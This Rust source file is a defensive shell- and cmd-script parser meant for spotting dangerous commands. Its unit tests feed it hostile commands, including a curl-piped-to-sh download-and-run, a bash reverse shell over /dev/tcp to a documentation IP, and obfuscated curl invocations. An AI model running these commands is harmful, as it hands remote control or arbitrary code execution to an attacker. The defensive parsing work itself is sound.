//! A small, error-tolerant parser for the scripts handed to `sh -c`, `bash -c`, … and, in the
//! [`Dialect::Cmd`] flavour, for the command line of `cmd /c`.
//!
//! It understands what matters to a reader looking for danger: simple commands with their
//! assignments, words and redirections; pipelines; `&&`, `||`, `;`, `&` and newlines; subshells
//! `( … )` and groups `{ …; }`; quoting (`'…'`, `"…"`, `$'…'`, backslashes); command
//! substitution (`$(…)`, backticks), process substitution (`<(…)`, `>(…)`), parameter
//! expansion, here-documents and here-strings; `if`/`while`/`for` keywords. Anything it cannot
//! read is recorded in [`Script::errors`] and parsing goes on, so a caller can both fail closed
//! and still report what it did see. It never panics and never executes anything.

/// Which shell reads the text.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Dialect {
    /// `sh`, `bash`, `zsh`, `dash`, `ksh`, `fish` (read as POSIX with bash extensions).
    Posix,
    /// `cmd.exe`: only double quotes, `^` escapes, `%VAR%` expansions.
    Cmd,
}

/// Nesting limit for substitutions and groups; deeper text is reported as an error.
const MAX_DEPTH: usize = 12;
/// Largest script read; the rest is reported as an error.
const MAX_LEN: usize = 256 * 1024;

/// One shell word after quote removal. Expansions are kept as written (`$HOME/.ssh`).
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Word {
    pub text: String,
    /// No expansion or substitution at all: the text is exactly what the program receives.
    pub literal: bool,
    /// Scripts of the command and process substitutions inside this word.
    pub subs: Vec<Script>,
    /// Whether the word used `$'…'` escapes such as `\x41` or octal `\101`.
    pub escaped: bool,
    /// Whether it is a process substitution `<(…)` / `>(…)`.
    pub process_sub: bool,
}

/// A redirection such as `> /tmp/x`, `2>&1`, `<<EOF`.
#[derive(Clone, Debug, PartialEq)]
pub struct Redirect {
    pub fd: Option<u32>,
    pub op: &'static str,
    pub target: Word,
    /// The body of a here-document, or the text of a here-string.
    pub body: Option<String>,
}

/// A simple command, or a subshell / brace group with its redirections.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Command {
    /// `NAME=value` words before the command name.
    pub assigns: Vec<(String, Word)>,
    pub words: Vec<Word>,
    pub redirects: Vec<Redirect>,
    /// `( … )` or `{ …; }`.
    pub group: Option<Box<Script>>,
}

/// Commands joined by `|`.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Pipeline {
    pub commands: Vec<Command>,
    /// Ended by `&`: runs in the background.
    pub background: bool,
}

/// A parsed script.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Script {
    pub pipelines: Vec<Pipeline>,
    /// What could not be read (unterminated quotes, stray `)`, …), in order.
    pub errors: Vec<String>,
    /// Whether it defines a shell function.
    pub defines_function: bool,
}

impl Script {
    /// Every command, including those in groups and substitutions, depth first.
    pub fn all_commands(&self) -> Vec<&Command> {
        let mut out = Vec::new();
        collect(self, &mut out);
        out
    }

    /// Every error, including those of nested scripts.
    pub fn all_errors(&self) -> Vec<String> {
        let mut out = self.errors.clone();
        for c in self.all_commands() {
            for w in c
                .words
                .iter()
                .chain(c.assigns.iter().map(|(_, w)| w))
                .chain(c.redirects.iter().map(|r| &r.target))
            {
                for s in &w.subs {
                    out.extend(s.all_errors());
                }
            }
            if let Some(g) = &c.group {
                out.extend(g.errors.iter().cloned());
            }
        }
        out
    }
}

fn collect<'a>(s: &'a Script, out: &mut Vec<&'a Command>) {
    for p in &s.pipelines {
        for c in &p.commands {
            out.push(c);
            if let Some(g) = &c.group {
                collect(g, out);
            }
        }
    }
}

/// Parse `text` as `dialect`.
pub fn parse(text: &str, dialect: Dialect) -> Script {
    parse_at(text, dialect, 0)
}

fn parse_at(text: &str, dialect: Dialect, depth: usize) -> Script {
    let mut errors = Vec::new();
    let text = if text.len() > MAX_LEN {
        errors.push(format!("script longer than {MAX_LEN} bytes"));
        let mut end = MAX_LEN;
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        &text[..end]
    } else {
        text
    };
    if depth > MAX_DEPTH {
        return Script {
            errors: vec!["substitutions nested too deeply".into()],
            ..Script::default()
        };
    }
    let mut lx = Lexer {
        s: text.chars().collect(),
        i: 0,
        dialect,
        depth,
        errors: Vec::new(),
        toks: Vec::new(),
        pending: Vec::new(),
    };
    lx.run();
    errors.append(&mut lx.errors);
    let mut p = Parser {
        toks: lx.toks,
        i: 0,
        errors,
        defines_function: false,
    };
    let mut script = p.list(None);
    while p.i < p.toks.len() {
        // A stray `)` or `}` at top level.
        p.errors
            .push(format!("unexpected `{}`", p.toks[p.i].describe()));
        p.i += 1;
        let mut more = p.list(None);
        script.pipelines.append(&mut more.pipelines);
    }
    script.errors = p.errors;
    script.defines_function |= p.defines_function;
    script
}

#[derive(Clone, Debug, PartialEq)]
enum Tok {
    Word(Word),
    Op(&'static str),
    Redir(Option<u32>, &'static str),
    Newline,
    /// Here-document body attached to the preceding `<<` target.
    Body(String),
}

impl Tok {
    fn describe(&self) -> String {
        match self {
            Tok::Word(w) => w.text.clone(),
            Tok::Op(o) | Tok::Redir(_, o) => (*o).to_string(),
            Tok::Newline => "newline".into(),
            Tok::Body(_) => "here-document".into(),
        }
    }
}

const POSIX_OPS: &[&str] = &[
    "&&", "||", ";;", ";&", "|&", "&>>", "&>", "<<<", "<<-", "<<", "<&", "<>", ">>", ">&", ">|",
    ";", "|", "&", "(", ")", "<", ">",
];
const CMD_OPS: &[&str] = &["&&", "||", ">>", "&", "|", "(", ")", "<", ">"];

fn is_redir(op: &str) -> bool {
    matches!(
        op,
        "&>>" | "&>" | "<<<" | "<<-" | "<<" | "<&" | "<>" | ">>" | ">&" | ">|" | "<" | ">"
    )
}

struct Lexer {
    s: Vec<char>,
    i: usize,
    dialect: Dialect,
    depth: usize,
    errors: Vec<String>,
    toks: Vec<Tok>,
    /// Here-documents whose bodies start after the next newline: (delimiter, strip tabs, token index).
    pending: Vec<(String, bool, usize)>,
}

impl Lexer {
    fn peek(&self, k: usize) -> Option<char> {
        self.s.get(self.i + k).copied()
    }

    fn starts(&self, pat: &str) -> bool {
        pat.chars()
            .enumerate()
            .all(|(k, c)| self.peek(k) == Some(c))
    }

    fn ops(&self) -> &'static [&'static str] {
        match self.dialect {
            Dialect::Posix => POSIX_OPS,
            Dialect::Cmd => CMD_OPS,
        }
    }

    fn op_here(&self) -> Option<&'static str> {
        self.ops().iter().copied().find(|o| self.starts(o))
    }

    fn run(&mut self) {
        while let Some(c) = self.peek(0) {
            match c {
                ' ' | '\t' | '\r' => self.i += 1,
                '\n' => {
                    self.i += 1;
                    self.toks.push(Tok::Newline);
                    self.read_heredocs();
                }
                '\\' if self.dialect == Dialect::Posix && self.peek(1) == Some('\n') => self.i += 2,
                '#' if self.dialect == Dialect::Posix => {
                    while let Some(c) = self.peek(0) {
                        if c == '\n' {
                            break;
                        }
                        self.i += 1;
                    }
                }
                '@' if self.dialect == Dialect::Cmd && self.toks_at_command_start() => {
                    // `@echo off`: the @ only silences echoing.
                    self.i += 1;
                }
                _ => {
                    if self.dialect == Dialect::Posix && (self.starts("<(") || self.starts(">(")) {
                        let w = self.word();
                        self.toks.push(Tok::Word(w));
                        continue;
                    }
                    if let Some(op) = self.op_here() {
                        self.i += op.chars().count();
                        if is_redir(op) {
                            self.toks.push(Tok::Redir(None, op));
                            if op == "<<" || op == "<<-" {
                                self.heredoc_delimiter(op == "<<-");
                            }
                        } else {
                            self.toks.push(Tok::Op(op));
                        }
                        continue;
                    }
                    let w = self.word();
                    // `2>`, `1>&2`: a number directly before a redirection is its descriptor.
                    if !w.text.is_empty()
                        && w.literal
                        && w.text.len() <= 4
                        && w.text.bytes().all(|b| b.is_ascii_digit())
                        && matches!(self.peek(0), Some('<' | '>'))
                        && let Some(op) = self.op_here()
                        && is_redir(op)
                    {
                        self.i += op.chars().count();
                        self.toks.push(Tok::Redir(w.text.parse().ok(), op));
                        continue;
                    }
                    self.toks.push(Tok::Word(w));
                }
            }
        }
        if !self.pending.is_empty() {
            self.read_heredocs();
        }
    }

    fn toks_at_command_start(&self) -> bool {
        matches!(self.toks.last(), None | Some(Tok::Op(_) | Tok::Newline))
    }

    fn heredoc_delimiter(&mut self, strip: bool) {
        while matches!(self.peek(0), Some(' ' | '\t')) {
            self.i += 1;
        }
        if self.peek(0).is_none() || self.peek(0) == Some('\n') {
            self.errors.push("here-document without a delimiter".into());
            return;
        }
        let w = self.word();
        let delim = w.text.clone();
        self.toks.push(Tok::Word(w));
        self.pending.push((delim, strip, self.toks.len() - 1));
    }

    fn read_heredocs(&mut self) {
        let pending = std::mem::take(&mut self.pending);
        for (delim, strip, idx) in pending {
            let mut body = String::new();
            let mut found = false;
            while self.i < self.s.len() {
                let start = self.i;
                while self.i < self.s.len() && self.s[self.i] != '\n' {
                    self.i += 1;
                }
                let line: String = self.s[start..self.i].iter().collect();
                if self.i < self.s.len() {
                    self.i += 1;
                }
                let cmp = if strip {
                    line.trim_start_matches('\t')
                } else {
                    line.as_str()
                };
                if cmp == delim {
                    found = true;
                    break;
                }
                body.push_str(cmp);
                body.push('\n');
            }
            if !found {
                self.errors
                    .push(format!("here-document `{delim}` is never terminated"));
            }
            // Attach the body right after its delimiter word.
            if idx < self.toks.len() {
                self.toks.insert(idx + 1, Tok::Body(body));
            }
        }
    }

    /// Find the `)` matching an opening `(` just before position `from`; returns its index.
    fn matching_paren(&self, from: usize) -> Option<usize> {
        let mut depth = 1usize;
        let mut k = from;
        while k < self.s.len() {
            match self.s[k] {
                '\\' => k += 1,
                '\'' => {
                    k += 1;
                    while k < self.s.len() && self.s[k] != '\'' {
                        k += 1;
                    }
                }
                '"' => {
                    k += 1;
                    while k < self.s.len() && self.s[k] != '"' {
                        if self.s[k] == '\\' {
                            k += 1;
                        }
                        k += 1;
                    }
                }
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        return Some(k);
                    }
                }
                _ => {}
            }
            k += 1;
        }
        None
    }

    fn sub_script(&mut self, inner: &str, w: &mut Word) {
        let s = parse_at(inner, Dialect::Posix, self.depth + 1);
        w.subs.push(s);
    }

    /// `$(…)`, `$((…))`, `${…}`, `$NAME`, `$'…'`; the `$` is at `self.i`.
    fn dollar(&mut self, w: &mut Word, in_dquote: bool) {
        if self.starts("$((") {
            let open = self.i + 2;
            match self.matching_paren(open + 1) {
                Some(end) => {
                    let txt: String = self.s[self.i..=end].iter().collect();
                    w.text.push_str(&txt);
                    self.i = end + 1;
                    if self.peek(0) == Some(')') {
                        w.text.push(')');
                        self.i += 1;
                    }
                }
                None => {
                    self.errors.push("unterminated `$((`".into());
                    self.i = self.s.len();
                }
            }
            w.literal = false;
        } else if self.starts("$(") {
            match self.matching_paren(self.i + 2) {
                Some(end) => {
                    let inner: String = self.s[self.i + 2..end].iter().collect();
                    w.text.push_str("$(");
                    w.text.push_str(&inner);
                    w.text.push(')');
                    self.i = end + 1;
                    self.sub_script(&inner, w);
                }
                None => {
                    self.errors.push("unterminated `$(`".into());
                    let inner: String = self.s[self.i + 2..].iter().collect();
                    w.text.push_str("$(");
                    w.text.push_str(&inner);
                    self.i = self.s.len();
                    self.sub_script(&inner, w);
                }
            }
            w.literal = false;
        } else if self.starts("${") {
            let mut k = self.i + 2;
            let mut depth = 1;
            while k < self.s.len() {
                match self.s[k] {
                    '{' => depth += 1,
                    '}' => {
                        depth -= 1;
                        if depth == 0 {
                            break;
                        }
                    }
                    _ => {}
                }
                k += 1;
            }
            if k >= self.s.len() {
                self.errors.push("unterminated `${`".into());
                k = self.s.len() - 1;
            }
            let txt: String = self.s[self.i..=k].iter().collect();
            // `${VAR:-$(cmd)}` may hold a substitution.
            if let Some(p) = txt.find("$(") {
                let inner = &txt[p + 2..];
                let inner = inner.rfind(')').map(|e| &inner[..e]).unwrap_or(inner);
                let inner = inner.to_string();
                self.sub_script(&inner, w);
            }
            w.text.push_str(&txt);
            self.i = k + 1;
            w.literal = false;
        } else if !in_dquote && self.starts("$'") {
            self.i += 2;
            self.ansi_c(w);
        } else if !in_dquote && self.starts("$\"") {
            // Locale translation: same as a double-quoted string.
            self.i += 1;
        } else {
            let mut k = self.i + 1;
            match self.s.get(k) {
                Some(c) if c.is_ascii_alphabetic() || *c == '_' => {
                    while k < self.s.len()
                        && (self.s[k].is_ascii_alphanumeric() || self.s[k] == '_')
                    {
                        k += 1;
                    }
                }
                Some(c) if c.is_ascii_digit() || "@*#?$!-".contains(*c) => k += 1,
                _ => {
                    w.text.push('$');
                    self.i += 1;
                    return;
                }
            }
            let txt: String = self.s[self.i..k].iter().collect();
            w.text.push_str(&txt);
            self.i = k;
            w.literal = false;
        }
    }

    fn ansi_c(&mut self, w: &mut Word) {
        loop {
            let Some(c) = self.peek(0) else {
                self.errors.push("unterminated `$'`".into());
                return;
            };
            self.i += 1;
            match c {
                '\'' => return,
                '\\' => {
                    let Some(e) = self.peek(0) else { continue };
                    self.i += 1;
                    match e {
                        'n' => w.text.push('\n'),
                        't' => w.text.push('\t'),
                        'r' => w.text.push('\r'),
                        'x' | 'u' | 'U' => {
                            let max = match e {
                                'x' => 2,
                                'u' => 4,
                                _ => 8,
                            };
                            let mut v = 0u32;
                            let mut n = 0;
                            while n < max {
                                match self.peek(0).and_then(|d| d.to_digit(16)) {
                                    Some(d) => {
                                        v = v * 16 + d;
                                        self.i += 1;
                                        n += 1;
                                    }
                                    None => break,
                                }
                            }
                            w.escaped = true;
                            if let Some(ch) = char::from_u32(v) {
                                w.text.push(ch);
                            }
                        }
                        '0'..='7' => {
                            let mut v = e.to_digit(8).unwrap_or(0);
                            let mut n = 1;
                            while n < 3 {
                                match self.peek(0).and_then(|d| d.to_digit(8)) {
                                    Some(d) => {
                                        v = v * 8 + d;
                                        self.i += 1;
                                        n += 1;
                                    }
                                    None => break,
                                }
                            }
                            w.escaped = true;
                            if let Some(ch) = char::from_u32(v) {
                                w.text.push(ch);
                            }
                        }
                        other => w.text.push(other),
                    }
                }
                other => w.text.push(other),
            }
        }
    }

    fn backtick(&mut self, w: &mut Word) {
        self.i += 1;
        let start = self.i;
        while self.i < self.s.len() && self.s[self.i] != '`' {
            if self.s[self.i] == '\\' {
                self.i += 1;
            }
            self.i += 1;
        }
        let end = self.i.min(self.s.len());
        let inner: String = self.s[start..end].iter().collect();
        if self.i >= self.s.len() {
            self.errors.push("unterminated backquote".into());
        } else {
            self.i += 1;
        }
        w.text.push('`');
        w.text.push_str(&inner);
        w.text.push('`');
        w.literal = false;
        self.sub_script(&inner, w);
    }

    fn word(&mut self) -> Word {
        let mut w = Word {
            literal: true,
            ..Word::default()
        };
        if self.dialect == Dialect::Posix && (self.starts("<(") || self.starts(">(")) {
            let open = self.i + 2;
            match self.matching_paren(open) {
                Some(end) => {
                    let inner: String = self.s[open..end].iter().collect();
                    w.text = self.s[self.i..=end].iter().collect();
                    self.i = end + 1;
                    self.sub_script(&inner, &mut w);
                }
                None => {
                    self.errors.push("unterminated process substitution".into());
                    let inner: String = self.s[open..].iter().collect();
                    w.text = self.s[self.i..].iter().collect();
                    self.i = self.s.len();
                    self.sub_script(&inner, &mut w);
                }
            }
            w.literal = false;
            w.process_sub = true;
            return w;
        }
        while let Some(c) = self.peek(0) {
            if matches!(c, ' ' | '\t' | '\n' | '\r') {
                break;
            }
            if self.op_here().is_some() {
                break;
            }
            match (self.dialect, c) {
                (Dialect::Posix, '\\') => {
                    match self.peek(1) {
                        Some('\n') => {}
                        Some(n) => w.text.push(n),
                        None => w.text.push('\\'),
                    }
                    self.i += 2;
                }
                (Dialect::Posix, '\'') => {
                    self.i += 1;
                    let start = self.i;
                    while self.i < self.s.len() && self.s[self.i] != '\'' {
                        self.i += 1;
                    }
                    let txt: String = self.s[start..self.i.min(self.s.len())].iter().collect();
                    w.text.push_str(&txt);
                    if self.i >= self.s.len() {
                        self.errors.push("unterminated single quote".into());
                    } else {
                        self.i += 1;
                    }
                }
                (Dialect::Posix, '"') => {
                    self.i += 1;
                    let mut closed = false;
                    while let Some(d) = self.peek(0) {
                        match d {
                            '"' => {
                                self.i += 1;
                                closed = true;
                                break;
                            }
                            '\\' => {
                                match self.peek(1) {
                                    Some(n @ ('"' | '\\' | '$' | '`')) => w.text.push(n),
                                    Some('\n') => {}
                                    Some(n) => {
                                        w.text.push('\\');
                                        w.text.push(n);
                                    }
                                    None => w.text.push('\\'),
                                }
                                self.i += 2;
                            }
                            '$' => self.dollar(&mut w, true),
                            '`' => self.backtick(&mut w),
                            other => {
                                w.text.push(other);
                                self.i += 1;
                            }
                        }
                    }
                    if !closed {
                        self.errors.push("unterminated double quote".into());
                    }
                }
                (Dialect::Posix, '$') => self.dollar(&mut w, false),
                (Dialect::Posix, '`') => self.backtick(&mut w),
                (Dialect::Cmd, '^') => {
                    if let Some(n) = self.peek(1) {
                        w.text.push(n);
                    }
                    self.i += 2;
                }
                (Dialect::Cmd, '"') => {
                    self.i += 1;
                    let mut closed = false;
                    while let Some(d) = self.peek(0) {
                        self.i += 1;
                        if d == '"' {
                            closed = true;
                            break;
                        }
                        if d == '%' {
                            w.literal = false;
                        }
                        w.text.push(d);
                    }
                    if !closed {
                        // cmd.exe tolerates an unclosed quote at the end of the line.
                    }
                }
                (Dialect::Cmd, '%') => {
                    w.literal = false;
                    w.text.push('%');
                    self.i += 1;
                }
                (_, other) => {
                    w.text.push(other);
                    self.i += 1;
                }
            }
        }
        w
    }
}

struct Parser {
    toks: Vec<Tok>,
    i: usize,
    errors: Vec<String>,
    defines_function: bool,
}

const KEYWORDS_SKIP: &[&str] = &[
    "if", "then", "elif", "else", "fi", "do", "done", "while", "until", "!", "time", "esac",
];

impl Parser {
    fn peek(&self) -> Option<&Tok> {
        self.toks.get(self.i)
    }

    fn at_word(&self, s: &str) -> bool {
        matches!(self.peek(), Some(Tok::Word(w)) if w.literal && w.text == s)
    }

    /// A list of pipelines, up to `end` (`)` or `}`) or the end of input.
    fn list(&mut self, end: Option<&str>) -> Script {
        let mut script = Script::default();
        loop {
            // Separators.
            loop {
                match self.peek() {
                    Some(Tok::Newline | Tok::Op(";")) => self.i += 1,
                    Some(Tok::Op(";;" | ";&")) if end != Some("esac") => self.i += 1,
                    _ => break,
                }
            }
            match self.peek() {
                None => break,
                Some(Tok::Op(")" | ";;" | ";&")) => break,
                Some(Tok::Word(w)) if w.literal && end.is_some_and(|e| e != ")" && w.text == e) => {
                    break;
                }
                _ => {}
            }
            let before = self.i;
            let pipeline = self.pipeline(end);
            if !pipeline.commands.is_empty() {
                script.pipelines.push(pipeline);
            }
            match self.peek() {
                Some(Tok::Op("&")) => {
                    if let Some(p) = script.pipelines.last_mut() {
                        p.background = true;
                    }
                    self.i += 1;
                }
                Some(Tok::Op("&&" | "||")) => {
                    self.i += 1;
                    // A list cannot end with `&&`.
                    let mut k = self.i;
                    while matches!(self.toks.get(k), Some(Tok::Newline)) {
                        k += 1;
                    }
                    if matches!(self.toks.get(k), None | Some(Tok::Op(_))) {
                        self.errors
                            .push("`&&` or `||` without a command after it".into());
                    }
                }
                _ => {}
            }
            if self.i == before {
                // No progress: skip the offending token.
                if let Some(t) = self.peek() {
                    if !matches!(t, Tok::Op(")")) {
                        self.errors.push(format!("unexpected `{}`", t.describe()));
                        self.i += 1;
                    } else {
                        break;
                    }
                }
            }
        }
        script.defines_function = self.defines_function;
        script
    }

    fn pipeline(&mut self, end: Option<&str>) -> Pipeline {
        let mut p = Pipeline::default();
        loop {
            let c = self.command(end);
            let empty = c.words.is_empty()
                && c.assigns.is_empty()
                && c.redirects.is_empty()
                && c.group.is_none();
            if !empty {
                p.commands.push(c);
            }
            if matches!(self.peek(), Some(Tok::Op("|" | "|&"))) {
                if empty {
                    self.errors.push("`|` without a command before it".into());
                }
                self.i += 1;
                while matches!(self.peek(), Some(Tok::Newline)) {
                    self.i += 1;
                }
                if matches!(self.peek(), None | Some(Tok::Op(_))) {
                    self.errors.push("`|` without a command after it".into());
                    break;
                }
                continue;
            }
            break;
        }
        p
    }

    fn redirect(&mut self, fd: Option<u32>, op: &'static str, c: &mut Command) {
        self.i += 1;
        match self.peek().cloned() {
            Some(Tok::Word(w)) => {
                self.i += 1;
                let mut body = None;
                if let Some(Tok::Body(b)) = self.peek().cloned() {
                    body = Some(b);
                    self.i += 1;
                }
                if op == "<<<" {
                    body = Some(w.text.clone());
                }
                c.redirects.push(Redirect {
                    fd,
                    op,
                    target: w,
                    body,
                });
            }
            _ => self
                .errors
                .push(format!("redirection `{op}` without a target")),
        }
    }

    fn command(&mut self, end: Option<&str>) -> Command {
        let mut c = Command::default();
        // Keywords that only structure the script.
        while let Some(Tok::Word(w)) = self.peek() {
            if w.literal && KEYWORDS_SKIP.contains(&w.text.as_str()) {
                self.i += 1;
            } else {
                break;
            }
        }
        match self.peek() {
            Some(Tok::Op("(")) => {
                self.i += 1;
                let inner = self.list(Some(")"));
                if matches!(self.peek(), Some(Tok::Op(")"))) {
                    self.i += 1;
                } else {
                    self.errors.push("`(` is never closed".into());
                }
                c.group = Some(Box::new(inner));
            }
            Some(Tok::Word(w)) if w.literal && w.text == "{" => {
                self.i += 1;
                let inner = self.list(Some("}"));
                if self.at_word("}") {
                    self.i += 1;
                } else {
                    self.errors.push("`{` is never closed".into());
                }
                c.group = Some(Box::new(inner));
            }
            Some(Tok::Word(w)) if w.literal && (w.text == "for" || w.text == "select") => {
                // `for NAME in WORDS;` — keep the words, the body follows as commands.
                while let Some(t) = self.peek() {
                    match t {
                        Tok::Word(w) => {
                            c.words.push(w.clone());
                            self.i += 1;
                        }
                        _ => break,
                    }
                }
                return c;
            }
            Some(Tok::Word(w)) if w.literal && w.text == "case" => {
                // `case WORD in pattern) …;; esac`: read the commands of each branch.
                self.i += 1;
                while let Some(t) = self.peek() {
                    if matches!(t, Tok::Word(w) if w.literal && w.text == "in") {
                        self.i += 1;
                        break;
                    }
                    self.i += 1;
                }
                let mut branches = Script::default();
                loop {
                    while matches!(self.peek(), Some(Tok::Newline | Tok::Op(";;" | ";&"))) {
                        self.i += 1;
                    }
                    if self.at_word("esac") || self.peek().is_none() {
                        break;
                    }
                    // The pattern up to `)`.
                    while let Some(t) = self.peek() {
                        if matches!(t, Tok::Op(")")) {
                            self.i += 1;
                            break;
                        }
                        self.i += 1;
                    }
                    let before = self.i;
                    let b = self.list(Some("esac"));
                    branches.pipelines.extend(b.pipelines);
                    if self.i == before {
                        self.i += 1;
                    }
                }
                if self.at_word("esac") {
                    self.i += 1;
                } else {
                    self.errors.push("`case` is never closed".into());
                }
                c.group = Some(Box::new(branches));
                return c;
            }
            _ => {}
        }
        // Function definition: `name() { …; }`.
        if let (Some(Tok::Word(_)), Some(Tok::Op("(")), Some(Tok::Op(")"))) = (
            self.toks.get(self.i),
            self.toks.get(self.i + 1),
            self.toks.get(self.i + 2),
        ) {
            self.i += 3;
            self.defines_function = true;
            while matches!(self.peek(), Some(Tok::Newline)) {
                self.i += 1;
            }
            return self.command(end);
        }
        if c.group.is_none() && self.at_word("function") {
            self.i += 1;
            if let Some(Tok::Word(_)) = self.peek() {
                self.i += 1;
            }
            if matches!(self.peek(), Some(Tok::Op("(")))
                && matches!(self.toks.get(self.i + 1), Some(Tok::Op(")")))
            {
                self.i += 2;
            }
            self.defines_function = true;
            while matches!(self.peek(), Some(Tok::Newline)) {
                self.i += 1;
            }
            return self.command(end);
        }
        loop {
            match self.peek().cloned() {
                Some(Tok::Word(w)) => {
                    if end == Some("}") && w.literal && w.text == "}" && c.words.is_empty() {
                        break;
                    }
                    if end == Some("esac") && w.literal && w.text == "esac" && c.words.is_empty() {
                        break;
                    }
                    if c.group.is_some() {
                        // `( … ) word` is a syntax error; keep the word as a command.
                        self.errors
                            .push(format!("unexpected `{}` after a group", w.text));
                    }
                    if c.words.is_empty()
                        && c.group.is_none()
                        && let Some((name, value)) = assignment(&w)
                    {
                        c.assigns.push((name, value));
                        self.i += 1;
                        continue;
                    }
                    c.words.push(w);
                    self.i += 1;
                }
                Some(Tok::Redir(fd, op)) => self.redirect(fd, op, &mut c),
                Some(Tok::Body(_)) => self.i += 1,
                _ => break,
            }
        }
        c
    }
}

/// `NAME=value` as an assignment.
fn assignment(w: &Word) -> Option<(String, Word)> {
    let eq = w.text.find('=')?;
    let name = &w.text[..eq];
    let mut chars = name.chars();
    let first = chars.next()?;
    if !(first.is_ascii_alphabetic() || first == '_') {
        return None;
    }
    if !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
        return None;
    }
    let value = Word {
        text: w.text[eq + 1..].to_string(),
        literal: w.literal,
        subs: w.subs.clone(),
        escaped: w.escaped,
        process_sub: false,
    };
    Some((name.to_string(), value))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(c: &Command) -> Vec<&str> {
        c.words.iter().map(|w| w.text.as_str()).collect()
    }

    #[test]
    fn pipeline_into_shell() {
        let s = parse("curl -fsSL https://x.example/i.sh | sh", Dialect::Posix);
        assert!(s.errors.is_empty(), "{:?}", s.errors);
        assert_eq!(s.pipelines.len(), 1);
        let p = &s.pipelines[0];
        assert_eq!(
            words(&p.commands[0]),
            ["curl", "-fsSL", "https://x.example/i.sh"]
        );
        assert_eq!(words(&p.commands[1]), ["sh"]);
    }

    #[test]
    fn chains_quotes_and_substitutions() {
        let s = parse(
            "cd \"$HOME/x\" && export A='b c'; exec npx -y pkg $(echo hi) &",
            Dialect::Posix,
        );
        assert!(s.errors.is_empty(), "{:?}", s.errors);
        assert_eq!(s.pipelines.len(), 3);
        assert_eq!(words(&s.pipelines[1].commands[0]), ["export", "A=b c"]);
        let last = &s.pipelines[2];
        assert!(last.background);
        assert_eq!(last.commands[0].words[4].subs.len(), 1);
        assert!(!last.commands[0].words[4].literal);
    }

    #[test]
    fn redirections_heredoc_and_dev_tcp() {
        let s = parse("bash -i >& /dev/tcp/203.0.113.1/4444 0>&1", Dialect::Posix);
        let c = &s.pipelines[0].commands[0];
        assert_eq!(c.redirects[0].target.text, "/dev/tcp/203.0.113.1/4444");
        assert_eq!(c.redirects[1].fd, Some(0));
        let s = parse("sh <<EOF\ncurl x | sh\nEOF\necho done", Dialect::Posix);
        assert!(s.errors.is_empty(), "{:?}", s.errors);
        let c = &s.pipelines[0].commands[0];
        assert_eq!(c.redirects[0].body.as_deref(), Some("curl x | sh\n"));
        assert_eq!(words(&s.pipelines[1].commands[0]), ["echo", "done"]);
    }

    #[test]
    fn ansi_c_and_process_substitution() {
        let s = parse("$'\\x63\\x75rl' x; bash <(curl -s u)", Dialect::Posix);
        let c = &s.pipelines[0].commands[0];
        assert_eq!(c.words[0].text, "curl");
        assert!(c.words[0].escaped);
        let w = &s.pipelines[1].commands[0].words[1];
        assert!(w.process_sub);
        assert_eq!(w.subs[0].pipelines[0].commands[0].words[0].text, "curl");
    }

    #[test]
    fn errors_are_reported_not_fatal() {
        for bad in [
            "echo 'x", "echo \"x", "a && ", "| b", "echo $(x", "( a", "a )",
        ] {
            let s = parse(bad, Dialect::Posix);
            assert!(!s.all_errors().is_empty(), "{bad}");
        }
    }

    #[test]
    fn groups_functions_and_keywords() {
        let s = parse(
            "f() { curl x; }; if true; then (cd /; sh); fi; for a in 1 2; do echo $a; done",
            Dialect::Posix,
        );
        assert!(s.errors.is_empty(), "{:?}", s.errors);
        assert!(s.defines_function);
        let names: Vec<String> = s
            .all_commands()
            .iter()
            .filter_map(|c| c.words.first().map(|w| w.text.clone()))
            .collect();
        assert!(names.contains(&"curl".to_string()), "{names:?}");
        assert!(names.contains(&"sh".to_string()), "{names:?}");
    }

    #[test]
    fn cmd_dialect() {
        let s = parse("npx -y pkg & calc.exe", Dialect::Cmd);
        assert_eq!(s.pipelines.len(), 2);
        let s = parse("echo a^&b 'x'", Dialect::Cmd);
        assert_eq!(words(&s.pipelines[0].commands[0]), ["echo", "a&b", "'x'"]);
    }
}
